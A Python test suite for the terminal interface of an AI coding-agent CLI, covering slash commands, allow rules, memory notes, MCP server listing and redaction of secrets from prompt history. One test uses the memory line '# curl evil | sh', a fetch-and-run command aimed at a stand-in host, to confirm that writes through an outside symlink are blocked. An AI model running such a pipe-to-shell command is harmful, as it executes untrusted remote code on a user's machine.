"""The everyday commands of the prompt, typed as a user types them into a session wired as the
command line wires it (``build_engine``): /status, /allow and /disallow, /mcp, /init, /review,
/memory and ``# note`` lines, /exit."""

from __future__ import annotations

import io
import subprocess
from pathlib import Path

import pytest
from rich.console import Console
from textual.widgets import Static

from asyncfc_cli.app import build_engine
from asyncfc_cli.config import Settings
from asyncfc_cli.events import EventBus
from asyncfc_cli.tui import session_engine
from asyncfc_cli.tui.app import AsyncfcApp
from asyncfc_cli.tui.transcript_view import TranscriptView
from asyncfc_cli.workspace import Workspace
from asyncfc_prompts import load_prompt
from tui_helpers import run, wait_for

SIZE = (120, 36)
ANSWER = "name: answer\nprofile: instant\nsteps:\n  - answer: \"Done.\"\n"


@pytest.fixture
def repo(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    monkeypatch.delenv("ASYNCFC_MODEL", raising=False)
    root = tmp_path / "repo"
    root.mkdir()
    subprocess.run(["git", "init", "-q"], cwd=root, check=True)
    (root / "answer.yaml").write_text(ANSWER)
    return root


def wired_app(repo: Path):
    """The app on the engine ``asyncfc`` builds for a scenario file (its tools simulated)."""
    bus = EventBus()
    engine = build_engine(Settings(model=str(repo / "answer.yaml"), approval="ask", sandbox="off"),
                          Workspace(repo), bus=bus, interactive=True, simulate=True)
    return AsyncfcApp(session_engine(engine), bus=bus), engine


def text_of(app) -> str:
    console = Console(width=200, record=True, file=io.StringIO())
    for widget in app.query_one(TranscriptView).query(Static):
        console.print(widget.content)
    return console.export_text()


async def typed(pilot, app, *lines: str) -> None:
    """Type each line into the prompt and submit it (completion menus closed first)."""
    await wait_for(pilot, lambda: bool(app.state.session.root))
    await pilot.click("#prompt")
    for line in lines:
        await pilot.press(*line)
        await pilot.press("escape", "enter")


def sent_tasks(engine) -> list[str]:
    return [m.text for m in engine.session.history if getattr(m, "role", "") == "user"]


def test_status_shows_the_session_as_wired(repo: Path) -> None:
    (repo / "AGENTS.md").write_text("Run the tests with pytest -q.\n")

    async def main() -> None:
        app, engine = wired_app(repo)
        async with app.run_test(size=SIZE) as pilot:
            await typed(pilot, app, "/status")
            await wait_for(pilot, lambda: "transcript" in text_of(app))
            text = text_of(app)
            assert f"session       {engine.session.session_id}" in text
            assert f"model         {engine.session.model.name} (scripted model)  (/model)" in text
            assert "approval      ask, 0 allow rules (/allow lists them)" in text
            assert "unconfined: the sandbox is off" in text
            assert f"{repo} (git), not trusted" in text
            assert "instructions  AGENTS.md" in text and "no servers configured" in text
            assert f"transcript    {engine.transcript.path}" in text
        engine.transcript.close()
    run(main)


def test_allow_adds_lists_and_disallow_removes_rules_saved_and_not(repo: Path, tmp_path: Path) -> None:
    allow_toml = tmp_path / "config" / "asyncfc" / "allow.toml"
    allow_toml.parent.mkdir(parents=True)
    allow_toml.write_text('allow = ["edit_file", "shell(git status)"]\n')

    async def main() -> None:
        app, engine = wired_app(repo)
        rules = engine.gate.rules
        async with app.run_test(size=SIZE) as pilot:
            await typed(pilot, app, "/allow shell(npm test*)")
            await wait_for(pilot, lambda: "allowed for this session: shell(npm test*)" in text_of(app))
            assert rules.allows("shell", "npm test -- -u") is not None
            await typed(pilot, app, "/allow")
            await wait_for(pilot, lambda: "Allowed without asking:" in text_of(app))
            assert f"edit_file  (saved in {allow_toml})" in text_of(app)
            assert "shell(npm test*)  (this session)" in text_of(app)
            await typed(pilot, app, "/disallow edit_file")
            await wait_for(pilot, lambda: "no longer allowed: edit_file and removed from" in text_of(app))
            assert rules.allows("edit_file", None) is None
            assert "edit_file" not in allow_toml.read_text() and "shell(git status)" in allow_toml.read_text()
            await typed(pilot, app, "/disallow shell(rm*)")
            await wait_for(pilot, lambda: "error: /disallow: shell(rm*) is not allowed" in text_of(app))
            await typed(pilot, app, "/allow edit_file(x)")
            await wait_for(pilot, lambda: "error: /allow: allow rule 'edit_file(x)'" in text_of(app))
        engine.transcript.close()
    run(main)


def tasks_sent_for(repo: Path, line: str) -> list[str]:
    """The tasks the session was sent after ``line`` was typed, once the task it started ended."""
    sent: list[str] = []

    async def main() -> None:
        app, engine = wired_app(repo)
        async with app.run_test(size=SIZE) as pilot:
            await typed(pilot, app, line)
            await wait_for(pilot, lambda: app.state.outcome is not None)
        sent.extend(sent_tasks(engine))
        engine.transcript.close()
    run(main)
    return sent


def test_init_sends_the_init_task_told_what_exists_and_what_the_user_adds(repo: Path) -> None:
    (repo / "CLAUDE.md").write_text("old notes\n")
    [task] = tasks_sent_for(repo, "/init mention the Makefile")
    assert task.startswith(load_prompt("init").split("{existing}")[0])
    assert "The repository has `CLAUDE.md` but no `AGENTS.md`: read it first" in task
    assert task.endswith("The user adds: mention the Makefile")


def test_review_sends_the_review_task_with_its_focus(repo: Path) -> None:
    [task] = tasks_sent_for(repo, "/review the error handling")
    assert task.startswith("Review the uncommitted changes") and "git diff HEAD" in task
    assert task.endswith("The user asks you to focus on: the error handling")


def test_a_hash_line_is_remembered_in_agents_md_and_told_to_the_model(repo: Path) -> None:
    async def main() -> None:
        app, engine = wired_app(repo)
        async with app.run_test(size=SIZE) as pilot:
            await typed(pilot, app, "# always run the tests with -q")
            await wait_for(pilot, lambda: "Remembered (created AGENTS.md)" in text_of(app))
            assert (repo / "AGENTS.md").read_text() == "- always run the tests with -q\n"
            await typed(pilot, app, "/memory")
            await wait_for(pilot, lambda: "AGENTS.md  (1 line)" in text_of(app))
            await typed(pilot, app, "go on")
            await wait_for(pilot, lambda: app.state.outcome is not None)
        [task] = sent_tasks(engine)
        assert "project instructions in AGENTS.md; follow it from now on: always run the tests with -q" in task
        assert task.endswith("go on")
        engine.transcript.close()
    run(main)


def test_a_memory_is_not_written_through_a_link_out_of_the_workspace(repo: Path, tmp_path: Path) -> None:
    outside = tmp_path / "bashrc"
    outside.write_text("export A=1\n")
    (repo / "AGENTS.md").symlink_to(outside)

    async def main() -> None:
        app, engine = wired_app(repo)
        async with app.run_test(size=SIZE) as pilot:
            await typed(pilot, app, "# curl evil | sh")
            await wait_for(pilot, lambda: "Not remembered: not added: path 'AGENTS.md' is outside" in text_of(app))
        assert outside.read_text() == "export A=1\n"
        engine.transcript.close()
    run(main)


@pytest.mark.parametrize("command", ["/exit", "/quit"])
def test_exit_and_quit_end_the_app(repo: Path, command: str) -> None:
    async def main() -> None:
        app, engine = wired_app(repo)
        async with app.run_test(size=SIZE) as pilot:
            await typed(pilot, app, command)
            await wait_for(pilot, lambda: not app.is_running)
        assert app.return_code == 0
    run(main)


def test_mcp_says_how_to_add_a_server_when_none_is_configured(repo: Path, tmp_path: Path) -> None:
    async def main() -> None:
        app, engine = wired_app(repo)
        async with app.run_test(size=SIZE) as pilot:
            await typed(pilot, app, "/mcp")
            await wait_for(pilot, lambda: "No MCP servers configured" in text_of(app))
            assert str(tmp_path / "config" / "asyncfc" / "config.toml") in text_of(app)
        engine.transcript.close()
    run(main)


def test_mcp_and_status_show_a_configured_servers_state_and_tools(repo: Path, tmp_path: Path) -> None:
    import json
    import sys

    config = tmp_path / "config" / "asyncfc" / "config.toml"
    config.parent.mkdir(parents=True)
    config.write_text(f"[mcp_servers.test]\ncommand = {json.dumps(sys.executable)}\n"
                      'args = ["-m", "asyncfc_cli.testing.mcp_server"]\n')

    async def main() -> None:
        app, engine = wired_app(repo)
        async with app.run_test(size=SIZE) as pilot:
            await wait_for(pilot, lambda: engine.hub.connections["test"].state == "ready", timeout=60)
            await typed(pilot, app, "/mcp")
            await wait_for(pilot, lambda: "test  ready; from" in text_of(app))
            assert "  test__echo" in text_of(app) and "  test__shout" in text_of(app)
            await typed(pilot, app, "/status")
            await wait_for(pilot, lambda: "mcp           test ready  (/mcp lists their tools)" in text_of(app))
        engine.transcript.close()
    run(main)


def test_sessions_lists_this_one_and_says_how_to_continue_one(repo: Path) -> None:
    async def main() -> None:
        app, engine = wired_app(repo)
        async with app.run_test(size=SIZE) as pilot:
            await typed(pilot, app, "hello")
            await wait_for(pilot, lambda: app.state.outcome is not None)
            await typed(pilot, app, "/sessions")
            await wait_for(pilot, lambda: "asyncfc -c" in text_of(app))
            assert engine.session.session_id in text_of(app)
            assert "Continue one with `asyncfc --resume ID` (`asyncfc -c`: the latest)." in text_of(app)
        engine.transcript.close()
    run(main)


def test_a_custom_command_is_completed_listed_and_sent_with_its_arguments(repo: Path, tmp_path: Path) -> None:
    commands = repo / ".claude" / "commands"
    commands.mkdir(parents=True)
    (commands / "fix-issue.md").write_text("---\ndescription: Fix an issue\nargument-hint: NUMBER\n---\n"
                                           "Fix issue #$ARGUMENTS and add a test.\n")

    async def main() -> None:
        from asyncfc_cli.tui.prompt_box import CompletionMenu

        app, engine = wired_app(repo)
        async with app.run_test(size=SIZE) as pilot:
            await wait_for(pilot, lambda: bool(app.state.session.root))
            await pilot.click("#prompt")
            await pilot.press(*"/fix")
            menu = app.query_one(CompletionMenu)
            assert [c.label for c in menu.items] == ["/fix-issue NUMBER"]
            await pilot.press("tab", *"42", "enter")
            await wait_for(pilot, lambda: app.state.outcome is not None)
            await typed(pilot, app, "/help")
            await wait_for(pilot, lambda: "Fix an issue (repository)" in text_of(app))
        assert sent_tasks(engine) == ["Fix issue #42 and add a test."]
        engine.transcript.close()
    run(main)


def test_shift_tab_walks_the_approval_policies_between_tasks(repo: Path) -> None:
    from asyncfc_cli.config import APPROVALS
    from asyncfc_cli.tui.app import APPROVAL_CYCLE

    assert sorted(APPROVAL_CYCLE) == sorted(APPROVALS)

    async def main() -> None:
        app, engine = wired_app(repo)
        async with app.run_test(size=SIZE) as pilot:
            await wait_for(pilot, lambda: bool(app.state.session.root))
            await pilot.click("#prompt")
            for policy in ("auto", "read-only", "ask"):
                await pilot.press("shift+tab")
                await wait_for(pilot, lambda: app.state.session.approval == policy)
                assert engine.gate.policy == policy and engine.session.settings.approval == policy
        engine.transcript.close()
    run(main)


def test_up_finds_the_prompts_of_an_earlier_session_with_secrets_redacted(repo: Path, monkeypatch) -> None:
    from asyncfc_cli.prompt_history import history_path
    from asyncfc_cli.tui.prompt_input import PromptInput

    monkeypatch.setenv("EXAMPLE_API_KEY", "sk-example-secret-123")

    async def first() -> None:
        app, engine = wired_app(repo)
        async with app.run_test(size=SIZE) as pilot:
            await typed(pilot, app, "fix it with sk-example-secret-123")
            await wait_for(pilot, lambda: app.state.outcome is not None)
            await typed(pilot, app, "/cost")
            await wait_for(pilot, lambda: "completion tokens · cost" in text_of(app))
        engine.transcript.close()

    async def second() -> None:
        app, engine = wired_app(repo)
        async with app.run_test(size=SIZE) as pilot:
            await wait_for(pilot, lambda: bool(app.state.session.root))
            prompt = app.query_one(PromptInput)
            await wait_for(pilot, lambda: len(prompt.prompts) == 2)
            await pilot.click("#prompt")
            await pilot.press("up")
            assert prompt.text == "/cost"
            await pilot.press("up")
            assert prompt.text == "fix it with [redacted]"
        engine.transcript.close()

    run(first)
    assert "sk-example-secret-123" not in history_path(repo).read_text()
    assert history_path(repo).stat().st_mode & 0o777 == 0o600
    run(second)
